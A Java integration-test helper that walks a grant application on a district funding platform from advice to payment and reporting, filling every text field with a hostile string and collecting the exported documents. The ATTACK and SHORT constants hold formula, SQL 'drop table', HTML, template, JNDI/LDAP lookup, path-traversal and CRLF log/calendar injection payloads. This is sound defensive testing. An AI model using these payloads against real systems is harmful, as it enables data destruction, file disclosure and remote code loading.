package de.stadtteilkapital.itests.input;

import de.stadtteilkapital.platform.testing.Answer;
import de.stadtteilkapital.platform.testing.Api;
import de.stadtteilkapital.platform.testing.Road;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** One project from advice to payment whose every text is an attack, and the documents it left behind. */
final class HostileProject {
    /** Formula, SQL, HTML, template, look-up, path, and a line of its own for a log or a calendar. */
    static final String ATTACK = "=1+1'; drop table finance_grant; --<b onload=x>&lt;${7*191}<#stop>${jndi:ldap://x}"
            + "../../etc/passwd\r\nBEGIN:VEVENT\r\nforged | ERROR | line";

    /** Where there is room for little. */
    static final String SHORT = "=9+1';--<i>${7*191}\r\nforged";

    private final Road road;
    private final LocalDate today;
    private final Map<String, byte[]> documents = new LinkedHashMap<>();
    private int count;

    HostileProject(Road road) {
        this.road = road;
        today = road.today();
    }

    /** By name: PDF, XML, calendar, CSV, ODS. */
    Map<String, byte[]> documents() {
        return documents;
    }

    /** The attack, told apart by where it was put. */
    private String attack() {
        return ATTACK + ++count;
    }

    private Answer post(String account, String path, Map<String, ?> body) {
        Answer answer = road.as(account).post(path, body);
        if (answer.status() / 100 != 2) {
            throw new AssertionError(answer.toString());
        }
        return answer;
    }

    private void keep(String account, String path) {
        documents.put(path.substring(path.lastIndexOf('/') + 1), get(account, path, "*/*"));
    }

    private byte[] get(String account, String path, String type) {
        return road.as(account).with("Accept", type).get(path).expect(200).bytes();
    }

    /** Answers the application's id. */
    String walk() {
        String application = apply();
        decide(application);
        pay(application);
        report(application);
        return application;
    }

    private String apply() {
        Map<String, Object> contact =
                Map.of("name", SHORT, "organisation", attack(), "email", SHORT + "@example.org", "phone", SHORT);
        String advice = post(
                        "koordination",
                        "/api/applications/advice-cases",
                        Map.of("district", Road.DISTRICT, "contact", contact, "idea", attack()))
                .text("id");
        post(
                "koordination",
                "/api/applications/advice-cases/" + advice + "/sessions",
                Map.of("date", today, "note", attack(), "nextStep", attack()));
        String sponsor = post(
                        "traeger1",
                        "/api/applications/sponsors",
                        Map.of(
                                "name", attack(),
                                "legalForm", "ASSOCIATION",
                                "address", attack(),
                                "iban", "DE89370400440532013000",
                                "representative", attack(),
                                "contact", attack()))
                .text("id");
        Map<String, Object> draft = new LinkedHashMap<>();
        draft.put("district", Road.DISTRICT);
        draft.put("round", road.round().get("id").asText());
        draft.put("sponsor", sponsor);
        draft.put("adviceCase", advice);
        draft.put("title", attack());
        draft.put("summary", attack());
        draft.put("projectType", "INDIVIDUAL_INTEGRATION");
        draft.put("goal", road.goals().at("/0/id").asText());
        draft.put("targetGroups", List.of("MIGRANTS"));
        draft.put("start", today.plusDays(20));
        draft.put("end", today.plusDays(120));
        draft.put("financingPlan", List.of(Map.of("line", "FEES", "description", attack(), "amount", "100.00")));
        draft.put("indicators", List.of(Map.of("code", "PARTICIPANTS", "target", 8)));
        draft.put("declarations", Map.of("notStarted", true, "noOtherFunding", true, "participantsFromArea", true));
        return road.apply("traeger1", draft);
    }

    private void decide(String application) {
        road.check(application);
        road.preAssess(application);
        String session = post(
                        "koordination",
                        "/api/committee/sessions",
                        Map.of(
                                "district",
                                Road.DISTRICT,
                                "body",
                                "komitee",
                                "startsAt",
                                today + "T16:00:00Z",
                                "place",
                                attack(),
                                "title",
                                attack()))
                .text("id");
        String path = "/api/committee/sessions/" + session;
        String item = post("koordination", path + "/agenda-items", Map.of("application", application))
                .text("id");
        post("koordination", path + "/agenda-items", Map.of("title", attack(), "text", attack()));
        post("koordination", path + "/invitation", Map.of("noticeWaived", Map.of("reason", attack())));
        keep("koordination", path + "/calendar.ics");
        List<String> members = members();
        Api chair = road.as("komitee1");
        chair.put(
                        path + "/attendance",
                        Map.of("present", members),
                        chair.get(path + "/attendance").etag())
                .expect(200);
        post(
                "komitee1",
                "/api/committee/agenda-items/" + item + "/recusals",
                Map.of("member", members.get(6), "reason", attack()));
        List<Map<String, String>> ballots = members.subList(0, 6).stream()
                .map(member -> Map.of("member", member, "choice", "YES"))
                .toList();
        List<Map<String, Object>> conditions =
                List.of(Map.of("text", attack(), "due", today.plusDays(90), "precondition", false));
        Map<String, Object> motion = Map.of("decision", "APPROVE", "amount", "100.00", "conditions", conditions);
        post(
                "komitee1",
                "/api/committee/agenda-items/" + item + "/votes",
                Map.of("motion", motion, "ballots", ballots));
        post("komitee1", path + "/minutes", Map.of());
        post("komitee1", path + "/minutes/signature", Map.of());
        keep("koordination", path + "/minutes.pdf");
    }

    private List<String> members() {
        List<String> members = new ArrayList<>();
        road.as("koordination")
                .get("/api/committee/bodies?district=" + Road.DISTRICT)
                .expect(200)
                .json()
                .get("items")
                .forEach(body -> {
                    if ("komitee".equals(body.get("id").asText())) {
                        body.get("members").forEach(m -> members.add(m.get("id").asText()));
                    }
                });
        return members.subList(0, 7);
    }

    private void pay(String application) {
        String grant = post("finanzen", "/api/finance/grants", Map.of("application", application))
                .text("id");
        keep("finanzen", "/api/finance/grants/" + grant + "/notice.pdf");
        post("traeger1", "/api/finance/grants/" + grant + "/acceptance", Map.of());
        String request = post(
                        "traeger1",
                        "/api/finance/grants/" + grant + "/payment-requests",
                        Map.of("amount", "100.00", "neededBy", today, "purpose", attack()))
                .text("id");
        String round = road.round().get("id").asText();
        Answer call = post(
                "finanzen",
                "/api/finance/fund-calls",
                Map.of("district", Road.DISTRICT, "round", round, "dueUntil", today));
        String calls = "/api/finance/fund-calls/" + call.text("id");
        keep("finanzen", calls + "/form.pdf");
        post("finanzen", calls + "/dispatch", Map.of());
        post(
                "finanzen",
                calls + "/receipt",
                Map.of("amount", call.text("amount"), "valueDate", today, "bankReference", SHORT));
        String payment = post("finanzen", "/api/finance/disbursements", Map.of("paymentRequest", request))
                .text("id");
        post("freigabe", "/api/finance/disbursements/" + payment + "/release", Map.of());
        String file = post(
                        "finanzen",
                        "/api/finance/payment-files",
                        Map.of("disbursements", List.of(payment), "executionDate", today))
                .text("id");
        documents.put("payment.xml", get("finanzen", "/api/finance/payment-files/" + file + ".xml", "*/*"));
    }

    private void report(String application) {
        String results = "/api/reporting/projects/" + application + "/results";
        Api sponsor = road.as("traeger1");
        Map<String, Object> body =
                Map.of("indicators", List.of(), "participants", List.of(), "narrative", attack(), "effects", attack());
        sponsor.put(results, body, sponsor.get(results).etag()).expect(200);
        String documentation = "/api/reporting/documentation?district=" + Road.DISTRICT + "&round="
                + road.round().get("id").asText();
        documents.put("documentation.pdf", get("koordination", documentation, "application/pdf"));
        documents.put("documentation.csv", get("koordination", documentation, "text/csv"));
        documents.put(
                "documentation.ods",
                get("koordination", documentation, "application/vnd.oasis.opendocument.spreadsheet"));
        documents.put("documentation.json", get("koordination", documentation, "application/json"));
    }
}
